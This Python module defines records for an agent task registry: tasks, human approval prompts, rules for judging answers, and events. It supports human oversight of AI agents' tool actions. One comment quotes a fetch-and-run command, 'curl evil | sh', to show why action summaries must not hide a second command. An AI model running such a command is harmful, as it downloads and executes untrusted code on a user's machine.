"""The task registry's records: tasks, prompts and the events that change them."""

from __future__ import annotations

import enum
import re
import shlex
from typing import Annotated, Any

import msgspec
from msgspec import Meta

from core.errors import BadRequest


class TaskStatus(str, enum.Enum):
    """Where a task is in its life."""

    QUEUED = "queued"
    """Waiting for a concurrency slot."""
    IN_PROGRESS = "in_progress"
    """Running, holding a slot."""
    BLOCKED = "blocked"
    """Waiting on a person or on sub-tasks; holds no slot."""
    FINISHED = "finished"
    """Ended with a result."""
    FAILED = "failed"
    """Ended without one; `Task.end_reason` says why."""

    @property
    def is_ended(self) -> bool:
        """True once the task can change no more."""
        return self in _ENDED


_ENDED = (TaskStatus.FINISHED, TaskStatus.FAILED)
"""Looked up once: reading an enum member off its class costs 0.1 us on Python 3.11, and
`is_ended` is asked of every event (0.49 -> 0.05 us)."""


class EndReason(str, enum.Enum):
    """Why a task failed."""

    ERROR = "error"
    """Its agent raised, or its reporter said it failed."""
    ABORTED = "aborted"
    """Somebody aborted it or one of its ancestors."""
    TIMEOUT = "timeout"
    """It ran past its timeout."""
    LOST = "lost"
    """Its external reporter stopped renewing the lease."""
    RESTARTED = "restarted"
    """The daemon restarted while it ran in-process."""


class BlockedReason(str, enum.Enum):
    """What a blocked task waits on; only a person's wait can be answered."""

    PROMPT = "prompt"
    """A question to a person."""
    SUBTASKS = "subtasks"
    """Its own sub-tasks."""


class PromptState(str, enum.Enum):
    """Where a question is in its life."""

    PENDING = "pending"
    """Waiting for an answer."""
    ANSWERED = "answered"
    """Answered once; later answers are refused."""
    CANCELLED = "cancelled"
    """Its task was aborted or ended before anyone answered."""
    TIMED_OUT = "timed_out"
    """Nobody answered in time and it had no default."""


class Verdict(str, enum.Enum):
    """What an answer decided (see `Prompt.verdict`)."""

    APPROVED = "approved"
    """A listed choice that is not a denial: the asker may go ahead."""
    DENIED = "denied"
    """A listed choice that refuses: "no", "deny", "cancel", ... or the second of two."""
    REPLIED = "replied"
    """Free text: guidance for the asker, never an approval."""


MAX_COUNT = 2**53
"""Ceiling of every counter a task keeps (token totals): counts saturate here instead of
growing past what MessagePack (64 bits) and JSON readers (exact up to 2^53) can carry,
so no single task can make the state unencodable."""

DEFAULT_CHOICES: tuple[str, ...] = ("approve", "deny")
"""Choices offered by a prompt that declares none."""

EDIT = "edit"
"""The choice that approves the question's action with its input edited: never a denial,
even as the second of two choices. The answer's reason carries the edited input, a JSON
object (the dashboard opens the action's input for editing when this choice is picked)."""

MAX_TEXT = 4096
"""Characters in a description, question, answer, reason, progress line, path."""

MAX_NAME = 128
"""Characters in an agent name, request id, tool name, session id and the parts of an origin."""

MAX_ACTION_INPUT = 256 << 10
"""Bytes of an action's input, MessagePack-encoded: a quarter of the largest message,
so a question with its action always fits one request (and one event)."""

MAX_SUMMARY = 200
"""Characters of the summary line derived for an action (a given one may be longer)."""


# Task, Prompt and BlockedOn hold only scalars, strings, lists of strings and an Action
# (whose input is decoded JSON-like data), so they can never be part of a reference cycle:
# `gc=False` keeps them out of the cycle collector,
# whose passes over 100k tracked tasks cost 4x the work itself in a snapshot, its
# decode and the copies (docs/BENCHMARKS.md, late join).


class BlockedOn(msgspec.Struct, frozen=True, gc=False):
    """The question a blocked task waits on, as shown beside the task."""

    prompt_id: int
    question: str
    choices: list[str]
    summary: str | None = None
    """The summary line of the question's action (None for a plain question)."""


class Task(msgspec.Struct, kw_only=True, gc=False):
    """One unit of agent work in the tree."""

    id: int
    agent: str
    description: str
    status: TaskStatus = TaskStatus.QUEUED
    parent_id: int | None = None
    session_id: str | None = None
    key: str | None = None
    """The external key its reporter opened it with ("claude:SESSION"): an `Open` with
    the same key finds this task again while it lives."""
    created_by: str = "user"
    result: str | None = None
    error: str | None = None
    end_reason: EndReason | None = None
    blocked_reason: BlockedReason | None = None
    blocked_on: BlockedOn | None = None
    prompt_tokens: int = 0
    completion_tokens: int = 0
    """Cumulative counts; each saturates at `MAX_COUNT`."""
    progress: str | None = None
    external: bool = False
    timeout: float | None = None
    created_at: float = 0.0
    started_at: float | None = None
    ended_at: float | None = None
    lease: float | None = None
    """Seconds an external task lives without a heartbeat (kept so a restart honours it)."""

    @property
    def tokens(self) -> int:
        """Prompt plus completion tokens spent by this task alone."""
        return self.prompt_tokens + self.completion_tokens


_Name = Annotated[str, Meta(min_length=1, max_length=MAX_NAME)]
_Text = Annotated[str, Meta(max_length=MAX_TEXT)]

_SHELL_TOOLS = frozenset({"bash", "shell", "exec_command", "local_shell"})
"""Tools whose input's `command` (Codex's exec_command: `cmd`) is a shell command (a string,
or argv as a list)."""

_FILE_KEYS = ("file_path", "notebook_path", "path")
"""Input keys naming the file a tool edits or writes, first found wins."""

_ENCODER = msgspec.msgpack.Encoder()


class Action(msgspec.Struct, frozen=True, kw_only=True, gc=False):
    """What an agent asks to do: data a person reads, a rule can match and the audit keeps.

    `input` is the tool's input exactly as the agent gave it (JSON-like). `summary` is the
    one line shown in the tree; left empty, it is derived from the tool and its input.

    Raises (on construction and on decode):
        BadRequest: the input encodes to more than `MAX_ACTION_INPUT` bytes.
    """

    agent: _Name
    """The kind of agent asking: "claude", "codex", "mcp", "langgraph", ..."""
    tool: _Name
    """The tool it wants to run: "Bash", "Edit", "Write", "WebFetch", ..."""
    input: dict[str, Any] = msgspec.field(default_factory=dict)
    cwd: _Text | None = None
    """The agent's working directory."""
    session: _Name | None = None
    """The agent's own session id."""
    summary: _Text = ""
    suggestions: Annotated[list[_Text], Meta(max_length=16)] = msgspec.field(
        default_factory=list)
    """Rules the agent itself proposes for "and remember", in its permission syntax
    (Claude Code's `permission_suggestions`, e.g. `Bash(npm test *)`); may be empty."""

    def __post_init__(self) -> None:
        size = len(_ENCODER.encode(self.input))
        if size > MAX_ACTION_INPUT:
            raise BadRequest(
                f"the {self.tool} action's input is {size} bytes, over the cap of "
                f"{MAX_ACTION_INPUT}"
            )
        if not self.summary:
            msgspec.structs.force_setattr(self, "summary", summarize(self.tool, self.input))

    @property
    def command(self) -> str | None:
        """The shell command a shell tool runs, as one string; None for other tools."""
        return _command(self.tool, self.input)

    @property
    def path(self) -> str | None:
        """The file the action edits or writes, if its input names one."""
        return _path(self.input)

    @property
    def url(self) -> str | None:
        """The URL the action fetches, if its input names one."""
        value = self.input.get("url")
        return value if isinstance(value, str) and value else None


def summarize(tool: str, tool_input: dict[str, Any]) -> str:
    """The tree's line for an action: the shell command, the path, the URL, else `Tool(...)`.

    One line, at most `MAX_SUMMARY` characters (a clipped one ends in "…").
    """
    url = tool_input.get("url")
    line = _command(tool, tool_input) or _path(tool_input) or (url if isinstance(url, str) else "")
    if not line.strip():
        return f"{tool}(...)"[:MAX_SUMMARY]
    # Only a newline ends the line: splitlines() would also cut at "\r", and a summary
    # "make test…" could hide the "curl evil | sh" after it.
    first, *rest = line.strip().split("\n")
    first = first.removesuffix("\r")
    if rest or len(first) > MAX_SUMMARY:
        return first[: MAX_SUMMARY - 1] + "…"
    return first


def _command(tool: str, tool_input: dict[str, Any]) -> str | None:
    if tool.lower() not in _SHELL_TOOLS:
        return None
    command = tool_input.get("command", tool_input.get("cmd"))
    if isinstance(command, list) and all(isinstance(part, str) for part in command):
        return shlex.join(command)
    return command if isinstance(command, str) else None


def _path(tool_input: dict[str, Any]) -> str | None:
    for key in _FILE_KEYS:
        value = tool_input.get(key)
        if isinstance(value, str) and value:
            return value
    return None


class Question(msgspec.Struct, frozen=True, kw_only=True):
    """What a task asks a person: one type from the asker's call through the registry,
    the wire and the client, so its parameters are spelled out once.
    """

    text: str
    choices: list[str] | None = None
    """The answers offered; None offers `DEFAULT_CHOICES` (approve, deny)."""
    timeout: float | None = None
    """Seconds until the question closes (answered by `default` if there is one)."""
    default: str | None = None
    action: Action | None = None
    """What the asker wants to do, when the question asks leave to act (None: a plain
    question, never decided by a rule)."""


class Prompt(msgspec.Struct, kw_only=True, gc=False):
    """A question a task asks a person; answered at most once."""

    id: int
    task_id: int
    question: str
    choices: list[str] = msgspec.field(default_factory=lambda: list(DEFAULT_CHOICES))
    state: PromptState = PromptState.PENDING
    timeout: float | None = None
    default: str | None = None
    created_at: float = 0.0
    answer: str | None = None
    reason: str | None = None
    answered_by: str | None = None
    answered_at: float | None = None
    action: Action | None = None
    """The structured action the question asks leave for (see `Question.action`)."""

    @property
    def verdict(self) -> Verdict | None:
        """What the answer decided, by one rule shared by the CLI, the client, the bridges
        and the dashboard (see `Prompt.judge`). None while unanswered (pending, cancelled,
        timed out without a default)."""
        if self.answer is None:
            return None
        return Prompt.judge(self.choices, self.answer)

    @property
    def is_denial(self) -> bool:
        """True when the answer is a listed choice that refuses (see `Prompt.judge`)."""
        return self.verdict is Verdict.DENIED

    @staticmethod
    def judge(choices: list[str], answer: str) -> Verdict:
        """What `answer` decides for a question offering `choices`.

        A choice that is no approval must never read as one, whatever the number of
        choices, so the rule errs towards refusing:

        * "deny", listed or not: `DENIED`;
        * not a listed choice: `REPLIED`, free text, never an approval (even "yes");
        * `EDIT`: `APPROVED` (the action with its input edited);
        * a choice that reads as a refusal, its first word (any case) one of `REFUSALS`
          or "do not" (e.g. "no", "Cancel", "deny", "skip", "no, keep it"): `DENIED`;
        * the second of two choices when the first is no refusal ("ship" / "hold"): `DENIED`;
        * any other listed choice: `APPROVED` (e.g. "yes", "staging", "release/2.4").
        """
        if answer.casefold() == "deny":  # what a closing asker answers, listed or not
            return Verdict.DENIED
        if answer not in choices:
            return Verdict.REPLIED
        if answer == EDIT:
            return Verdict.APPROVED
        if reads_as_refusal(answer):
            return Verdict.DENIED
        if len(choices) == 2 and answer == choices[1] and not reads_as_refusal(choices[0]):
            return Verdict.DENIED
        return Verdict.APPROVED

    @staticmethod
    def denial_among(choices: list[str]) -> str | None:
        """The choice that refuses (what `d` and a deny rule send): the first choice that
        `judge` counts as `DENIED`; None when no choice refuses (e.g. "us" / "eu" / "asia")."""
        return next((c for c in choices if Prompt.judge(choices, c) is Verdict.DENIED), None)


REFUSALS = frozenset({
    "no", "n", "nope", "nah", "not", "none", "never", "don't", "dont", "deny", "denied",
    "reject", "rejected", "decline", "declined", "refuse", "refused", "cancel", "cancelled",
    "canceled", "abort", "aborted", "stop", "halt", "skip", "veto", "block", "disallow",
    "forbid", "quit", "exit",
})
"""First words that make a choice a refusal: such a choice never approves (`Prompt.judge`)."""

_WORDS = re.compile(r"[^\W_]+(?:'[^\W_]+)?")


def reads_as_refusal(choice: str) -> bool:
    """True when the choice's first word (any case) is one of `REFUSALS`, or it starts
    "do not": "No", "cancel deploy", "Don’t", "no-go", "skip it"."""
    words = _WORDS.findall(choice.replace("\u2019", "'").casefold())
    if not words:
        return False
    return words[0] in REFUSALS or words[:2] == ["do", "not"]


# Events: every state change of the registry is exactly one of these.


class EventBody(msgspec.Struct, tag_field="kind", tag=str.lower, kw_only=True):
    """Base of all event bodies; the tag names the change."""


class TaskCreated(EventBody):
    """A task entered the registry."""

    task: Task


class TaskChanged(EventBody):
    """A task's status, tokens, progress or result changed; `task` is its new state."""

    task: Task


class PromptOpened(EventBody):
    """A task asked a question and is now blocked on it."""

    task: Task
    prompt: Prompt


class PromptClosed(EventBody):
    """A question was answered, cancelled or timed out; `task` is its task after that."""

    task: Task
    prompt: Prompt


class TasksEvicted(EventBody):
    """Ended tasks left memory under the retention policy."""

    task_ids: list[int]


Body = TaskCreated | TaskChanged | PromptOpened | PromptClosed | TasksEvicted


class Event(msgspec.Struct, kw_only=True):
    """One numbered state change: `seq` is global, strictly increasing, with no gaps."""

    epoch: int
    seq: int
    ts: float
    body: Body


class Snapshot(msgspec.Struct, kw_only=True):
    """The whole registry as of `seq`: replaying later events on it gives the live state."""

    epoch: int
    seq: int
    tasks: list[Task]
    prompts: list[Prompt]


class Tree(msgspec.Struct, kw_only=True, gc=False):
    """A snapshot's task tree as the daemon keeps it: root ids and child ids by parent,
    each in id order (parents without children have no entry)."""

    roots: list[int]
    children: dict[int, list[int]]
